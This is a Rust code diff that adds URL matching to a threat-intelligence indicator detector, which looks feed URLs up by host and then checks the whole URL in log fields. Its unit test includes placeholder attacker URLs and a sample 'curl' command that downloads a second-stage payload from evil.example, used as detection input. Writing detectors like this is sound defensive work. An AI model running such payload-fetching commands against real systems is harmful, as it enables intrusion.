@@ -6,10 +6,12 @@
 //!   looked up in hash maps of domains, file names and e-mail addresses;
 //!   its hex tokens of 32, 40 or 64 digits in the map of hashes; a run that
 //!   is an address in the map of addresses and the sorted CIDR ranges;
-//! - values with other characters (URLs, registry keys, accounts, mutexes,
-//!   file names with spaces) go through one Aho-Corasick automaton, kept
-//!   small because the bulk of a feed (hashes, domains, addresses) never
-//!   enters it.
+//! - a URL is looked up by its host (a run of its own) and then checked
+//!   whole in the field's text;
+//! - values with other characters (registry keys, accounts, mutexes, file
+//!   names with spaces, URLs without a plain host) go through one
+//!   Aho-Corasick automaton, kept small because the bulk of a feed (hashes,
+//!   domains, addresses, URLs) never enters it.
 //!
 //! Matches are whole tokens and ignore case (except mutex names).
 
@@ -42,6 +44,8 @@ pub struct IndicatorSet {
     names: HashMap<String, usize>,
     /// Lower-cased hex digests.
     hashes: HashMap<String, usize>,
+    /// URLs by their lower-cased host (`user@host` included, port not).
+    url_hosts: HashMap<String, usize>,
     addresses: HashMap<u128, usize>,
     same: Vec<Option<usize>>,
     /// CIDR blocks as (first, last) sorted by first, with the running
@@ -89,6 +93,7 @@ impl IndicatorSet {
             specs: Vec::new(),
             names: HashMap::with_capacity_and_hasher(specs.len() / 2, Default::default()),
             hashes: HashMap::with_capacity_and_hasher(specs.len() / 2, Default::default()),
+            url_hosts: HashMap::default(),
             addresses: HashMap::with_capacity_and_hasher(specs.len() / 4, Default::default()),
             same: vec![None; specs.len()],
             ranges: Vec::new(),
@@ -119,7 +124,11 @@ impl IndicatorSet {
         }
         for (n, spec) in specs.iter().enumerate() {
             let value = &spec.observable.value;
-            let lower = value.to_ascii_lowercase();
+            // Addresses and ranges are parsed, not compared as text.
+            let lower = match spec.observable.kind {
+                Kind::Ipv4 | Kind::Ipv6 | Kind::Cidr => String::new(),
+                _ => value.to_ascii_lowercase(),
+            };
             match spec.observable.kind {
                 Kind::Md5 | Kind::Sha1 | Kind::Sha256 | Kind::Ja3 => {
                     add(&mut set.hashes, &mut set.same, lower, n);
@@ -146,6 +155,10 @@ impl IndicatorSet {
                 }
                 Kind::Domain | Kind::Email | Kind::FileName if value.bytes().all(name_char) => {
                     add(&mut set.names, &mut set.same, lower, n);
+                }
+                Kind::Url if url_host(&lower).is_some() => {
+                    let host = url_host(&lower).unwrap_or_default().to_owned();
+                    add(&mut set.url_hosts, &mut set.same, host, n);
                 }
                 Kind::RegistryKey => {
                     // Sysmon writes hives abbreviated: HKLM\..., HKU\...
@@ -255,6 +268,7 @@ impl IndicatorSet {
 
     fn find_in(&self, text: &str, scratch: &mut Scratch) {
         let bytes = text.as_bytes();
+        scratch.urls.clear();
         let mut i = 0;
         while i < bytes.len() {
             if !name_char(bytes[i]) {
@@ -270,11 +284,28 @@ impl IndicatorSet {
         if (!self.addresses.is_empty() || !self.ranges.is_empty()) && text.contains(':') {
             self.ipv6_runs(text, scratch);
         }
+        let token = |b: u8| b.is_ascii_alphanumeric();
+        if !scratch.urls.is_empty() {
+            // A URL whose host is in the text: is the whole URL there too?
+            scratch.lower.clear();
+            scratch.lower.push_str(text);
+            scratch.lower.make_ascii_lowercase();
+            let lower = scratch.lower.as_bytes();
+            for &spec in &scratch.urls {
+                let url = self.specs[spec].observable.value.to_ascii_lowercase();
+                let whole = memchr::memmem::find_iter(lower, url.as_bytes()).any(|at| {
+                    let end = at + url.len();
+                    (at == 0 || !token(lower[at - 1])) && (end == lower.len() || !token(lower[end]))
+                });
+                if whole && !scratch.found.contains(&spec) {
+                    scratch.found.push(spec);
+                }
+            }
+        }
         if let Some(others) = &self.others {
             scratch.lower.clear();
             scratch.lower.push_str(text);
             scratch.lower.make_ascii_lowercase();
-            let token = |b: u8| b.is_ascii_alphanumeric();
             for m in others.find_overlapping_iter(scratch.lower.as_str()) {
                 let spec = self.other_spec[m.pattern().as_usize()];
                 let whole = (m.start() == 0 || !token(bytes[m.start() - 1]))
@@ -295,7 +326,7 @@ impl IndicatorSet {
         if run.is_empty() {
             return;
         }
-        if !self.names.is_empty() {
+        if !self.names.is_empty() || !self.url_hosts.is_empty() {
             scratch.lower.clear();
             scratch.lower.push_str(run);
             scratch.lower.make_ascii_lowercase();
@@ -308,6 +339,9 @@ impl IndicatorSet {
                 }
             };
             look(lower);
+            if let Some(&first) = self.url_hosts.get(lower) {
+                self.chain(first, &mut scratch.urls);
+            }
             let host = lower.rsplit_once('@').map_or(lower, |(_, h)| h);
             if host.len() != lower.len() {
                 look(host);
@@ -393,6 +427,24 @@ impl IndicatorSet {
 struct Scratch {
     lower: String,
     found: Vec<usize>,
+    /// URLs whose host is in the current field, to be checked whole.
+    urls: Vec<usize>,
+}
+
+/// The host a URL is looked up by (its authority without the port), when
+/// it is one run of name characters as the text scan cuts them.
+fn url_host(lower: &str) -> Option<&str> {
+    let (_, rest) = lower.split_once("://")?;
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host = match authority.rsplit_once(':') {
+        Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
+        _ => authority,
+    };
+    (!host.is_empty()
+        && host.bytes().all(name_char)
+        && !host.ends_with('.')
+        && !host.starts_with('.'))
+    .then_some(host)
 }
 
 #[cfg(test)]
@@ -473,6 +525,57 @@ mod tests {
             .len(),
             1,
             "once per record"
+        );
+    }
+
+    #[test]
+    fn urls_by_host_then_whole() {
+        let s = set(&[
+            "hxxp://evil[.]example/stage2",
+            "http://evil.example:8080/panel",
+            "https://drop.example",
+            "http://[2001:db8::1]/x",
+            "http://bob@mail.example/inbox",
+        ]);
+        assert_eq!(
+            found(
+                &s,
+                serde_json::json!({"cmd": "curl HTTP://EVIL.EXAMPLE/Stage2 -o x"})
+            ),
+            ["hxxp://evil[.]example/stage2@cmd"]
+        );
+        // The host alone, or the URL inside a longer token, is not the URL.
+        assert!(found(&s, serde_json::json!({"q": "evil.example"})).is_empty());
+        assert!(found(&s, serde_json::json!({"q": "http://evil.example/stage23"})).is_empty());
+        assert!(found(&s, serde_json::json!({"q": "http://evil.example/panel"})).is_empty());
+        assert_eq!(
+            found(
+                &s,
+                serde_json::json!({"q": "GET http://evil.example:8080/panel?id=1"})
+            )
+            .len(),
+            1
+        );
+        assert_eq!(
+            found(&s, serde_json::json!({"q": "see https://drop.example/"})).len(),
+            1
+        );
+        assert!(
+            found(&s, serde_json::json!({"q": "https://drop.example.org/"})).is_empty(),
+            "another host that starts alike"
+        );
+        assert_eq!(
+            found(
+                &s,
+                serde_json::json!({"q": "fetch http://[2001:db8::1]/x now"})
+            )
+            .len(),
+            1,
+            "a host the scan does not cut as one run still matches"
+        );
+        assert_eq!(
+            found(&s, serde_json::json!({"a": "http://bob@mail.example/inbox", "b": "http://evil.example/stage2"})).len(),
+            2
         );
     }
 
